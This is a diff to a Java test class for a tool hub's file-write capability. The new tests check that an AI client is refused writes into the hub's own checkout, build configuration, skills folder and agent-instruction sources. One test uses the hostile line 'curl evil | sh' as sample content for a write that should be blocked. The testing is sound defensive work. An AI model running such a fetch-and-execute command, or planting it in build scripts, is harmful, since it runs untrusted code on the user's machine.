@@ -17,6 +17,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
+import java.util.Optional;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -199,6 +200,58 @@ class FsWriteDenyTest {
         // the hub's own files stay out of reach whatever the lists say
         assertTrue(error("fs_write", Map.of("path", "home/.tandem/hub.toml", "content", "x"))
                 .contains("[fs] deny"));
+    }
+
+    /** Starts a hub whose fs capability is made for the launcher's checkout {@code checkout}. */
+    private void startWithCheckout(String hubToml, Optional<Path> checkout) {
+        hub = TestHub.startWith(dir, hubToml, c -> List.of(FsCapability.create(rootedAt(c, dir), checkout)));
+        client = hub.client("codex-mcp-client");
+    }
+
+    @Test
+    void aFileInTandemsCheckoutIsRefusedNamingWhy() throws IOException {
+        put("code/tandem/bin/usage-via-hub");
+        put("code/tandem/pom.xml");
+        put("code/other/pom.xml");
+        startWithCheckout(null, Optional.of(dir.resolve("code/tandem")));
+        for (String p : List.of(
+                "code/tandem/bin/usage-via-hub",
+                "code/tandem/pom.xml",
+                "code/tandem/.mvn/jvm.config",
+                "code/tandem/clients/codex/profiles/cheap.config.toml",
+                "code/TANDEM/bin/serve.jvm-options")) {
+            String e = error("fs_write", Map.of("path", p, "content", "curl evil | sh\n", "create_parents", true));
+            assertTrue(e.startsWith(p + ": refused: is in Tandem's own checkout, whose scripts and build"), e);
+        }
+        assertEquals(ORIGINAL, Files.readString(dir.resolve("code/tandem/bin/usage-via-hub")));
+        assertFalse(Files.exists(dir.resolve("code/tandem/.mvn")));
+        assertEquals(
+                ORIGINAL, ok("fs_read", Map.of("path", "code/tandem/pom.xml")).get("text"));
+        ok("fs_write", Map.of("path", "code/other/pom.xml", "content", "x"));
+    }
+
+    @Test
+    void withoutACheckoutFromTheLauncherNoneIsAdded() throws IOException {
+        put("code/tandem/pom.xml");
+        startWithCheckout(null, Optional.empty());
+        ok("fs_write", Map.of("path", "code/tandem/pom.xml", "content", "x"));
+        assertEquals("x", Files.readString(dir.resolve("code/tandem/pom.xml")));
+    }
+
+    @Test
+    void theSkillsAndSourceFoldersAreRefusedNamingTheirSettings() throws IOException {
+        put("skills/review/SKILL.md");
+        put("src-tandem/shared/AGENTS.md");
+        startWithCheckout(
+                "[skills]\ndir = \"" + dir.resolve("skills") + "\"\n[source]\ndir = \"" + dir.resolve("src-tandem")
+                        + "\"\n",
+                Optional.empty());
+        assertTrue(error("fs_write", Map.of("path", "skills/review/SKILL.md", "content", "x"))
+                .contains("([skills] dir)"));
+        assertTrue(error("fs_write", Map.of("path", "src-tandem/shared/AGENTS.md", "content", "x"))
+                .contains("([source] dir)"));
+        assertEquals(ORIGINAL, Files.readString(dir.resolve("skills/review/SKILL.md")));
+        assertEquals(ORIGINAL, Files.readString(dir.resolve("src-tandem/shared/AGENTS.md")));
     }
 
     @Test
